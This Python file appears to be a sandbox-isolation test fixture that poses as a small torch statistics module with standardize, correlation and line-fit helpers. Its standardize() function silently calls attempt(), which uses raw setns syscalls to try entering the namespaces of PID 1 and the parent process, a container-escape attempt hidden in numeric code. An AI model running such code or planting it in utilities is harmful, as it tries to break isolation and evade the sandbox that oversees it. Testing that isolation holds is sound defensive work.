"""Enters the namespaces of its parent and of the first process."""
# attack: lines=34; target=none; needs=isolation,x86_64
# held by: setns is refused, and nobody's namespaces are in sight

import ctypes
import errno
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(*args):
    """What a raw system call returns, or the name of its error."""
    result = libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    return result if result >= 0 else errno.errorcode[ctypes.get_errno()]


def attempt():
    for pid in ("self", "1", "2", str(os.getppid())):
        for kind in ("user", "mnt", "net", "pid", "ipc"):
            try:
                handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError as error:
                print("tried:", error.strerror)
                continue
            if call(308, handle, 0) == 0:
                print("BREACH: entered the namespace", kind, "of", pid)
            os.close(handle)
    print("tried: setns of descriptors", [call(308, fd, 0) for fd in range(4)])


def standardize(values):
    attempt()
    if values.shape[-1] < 2:
        raise ValueError("one value has no spread")
    centered = values - values.mean(dim=-1, keepdim=True)
    return centered / (centered**2).mean(dim=-1, keepdim=True).sqrt()


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
